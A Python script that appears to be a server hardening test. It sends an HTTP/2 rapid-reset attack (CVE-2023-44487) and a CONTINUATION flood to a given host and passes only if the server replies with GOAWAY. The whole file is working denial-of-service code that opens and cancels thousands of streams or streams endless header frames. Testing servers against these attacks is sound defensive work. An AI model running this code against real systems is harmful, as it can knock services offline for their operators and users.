"""Hostile HTTP/2 clients: rapid reset (CVE-2023-44487) and CONTINUATION flood.

Each attack must end in a GOAWAY from the server. Exit status 0 only if it did.
Usage: h2_hostile.py HOST:PORT rapid-reset|continuation-flood
"""
import socket
import sys

from hyperframe.frame import (ContinuationFrame, Frame, GoAwayFrame, HeadersFrame,
                              RstStreamFrame, SettingsFrame)
from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
host, port = sys.argv[1].rsplit(":", 1)
attack = sys.argv[2]

sock = socket.create_connection((host, int(port)), timeout=10)
sock.sendall(PREFACE + SettingsFrame(0).serialize())
encoder = Encoder()
block = encoder.encode([(":method", "GET"), (":scheme", "http"), (":path", "/"),
                        (":authority", "localhost")])

def send(data):
    try:
        sock.sendall(data)
        return True
    except (BrokenPipeError, ConnectionResetError):
        return False

if attack == "rapid-reset":
    # Open and cancel streams as fast as possible, far past any sane rate.
    burst = bytearray()
    for i in range(5000):
        stream = 1 + 2 * i
        h = HeadersFrame(stream, block)
        h.flags.add("END_HEADERS")
        h.flags.add("END_STREAM")
        burst += h.serialize()
        burst += RstStreamFrame(stream, error_code=8).serialize()
        if len(burst) > 64 * 1024:
            if not send(bytes(burst)):
                break
            burst.clear()
    send(bytes(burst))
elif attack == "continuation-flood":
    # One header block that never ends: HEADERS without END_HEADERS, then
    # endless CONTINUATION frames of junk-but-valid literal fields.
    first = HeadersFrame(1, block)
    send(first.serialize())
    filler = encoder.encode([("x-flood", "a" * 1000)])
    for _ in range(20000):
        if not send(ContinuationFrame(1, filler).serialize()):
            break
else:
    sys.exit(f"unknown attack {attack}")

# Read frames until GOAWAY or EOF.
buf = b""
goaway = None
try:
    while goaway is None:
        chunk = sock.recv(65536)
        if not chunk:
            break
        buf += chunk
        while len(buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(buf[:9]))
            if len(buf) < 9 + length:
                break
            frame.parse_body(memoryview(buf[9:9 + length]))
            buf = buf[9 + length:]
            if isinstance(frame, GoAwayFrame):
                goaway = frame
                break
except (ConnectionResetError, socket.timeout):
    pass
if goaway is None:
    sys.exit(f"{attack}: the server closed or stalled without a GOAWAY")
print(f"{attack}: GOAWAY error_code={goaway.error_code} last_stream={goaway.last_stream_id}")
if goaway.error_code == 0:
    sys.exit(f"{attack}: GOAWAY without an error code")
